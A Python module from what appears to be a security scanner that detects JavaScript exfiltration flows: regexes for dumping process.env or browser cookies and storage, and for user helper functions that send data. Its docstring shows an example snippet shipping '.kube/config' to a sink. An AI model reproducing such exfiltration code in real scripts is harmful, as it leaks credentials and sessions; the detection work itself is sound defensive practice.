"""A JavaScript script's own functions that send, and its whole stores of secrets, for the flow walk (flow.js_flows).

`async function ship(data) { await fetch(SINK, {body: data}); }` then `ship(grab('.kube/config'))`: the call
sends what it is given as surely as a `fetch` on that line would. The whole environment and a browser's logged-in
session (Playwright's or Puppeteer's `storageState()` and `cookies()` without arguments: every cookie and local
store) are sources wherever they are read.
"""

from __future__ import annotations

import re

from skillkeeper.check.scan.lazyre import lazy

# The whole environment handed to something (a body, JSON, a spread): every secret at once.
_JS_ENV = lazy(
    r"(?:JSON\.stringify|Object\.(?:entries|keys|values|assign))\s*\([^)\n]{0,40}?\bprocess\.env\s*[,)]"
    r"|\.\.\.process\.env\b|\b(?:body|data|json)\s*:\s*process\.env\b"
    r"|\b(?:JSON\.stringify|encodeURIComponent|btoa)\s*\(\s*\{[^}\n]{0,80}?:\s*process\.env\s*[,}]"
)
# Every cookie and local store of the browser's logged-in session (`storageState({path})` only saves it to disk).
_JS_SESSION = lazy(r"\.(?:storageState|cookies)\(\s*\)")


def whole_store(line: str) -> str:
    """The whole store of secrets a JavaScript line reads (the environment, the browser session), or ""."""
    if _JS_ENV.search(line):
        return "process.env"
    return "the browser session" if _JS_SESSION.search(line) else ""


_JS_FUNC = lazy(
    r"^\s*(?:export\s+)?(?:async\s+)?function\s+([A-Za-z_$][\w$]*)\s*\(|^\s*(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:async\s*)?(?:\([^)\n]*\)|[A-Za-z_$][\w$]*)\s*=>"
)


def sink_helpers(lines: list[str], sink: re.Pattern[str]) -> tuple[re.Pattern[str] | None, set[int]]:
    """Calls of the script's own functions whose body sends (`ship(data)` that fetches): sinks, with the
    definitions' line indexes (where the call is not made)."""
    names: list[str] = []
    inside: set[int] = set()
    for index, line in enumerate(lines):
        m = _JS_FUNC.match(line)
        if m is None:
            continue
        depth, body = 0, []
        for j in range(index, min(index + 15, len(lines))):
            body.append(j)
            depth += lines[j].count("{") - lines[j].count("}")
            if depth <= 0 and (j > index or "=>" in lines[j]):
                break
        if any(sink.search(lines[j]) for j in body):
            names.append(m.group(1) or m.group(2))
            inside.update(body)
    if not names:
        return None, inside
    return re.compile(r"(?<![\w$.])(?:" + "|".join(map(re.escape, names)) + r")\s*\("), inside
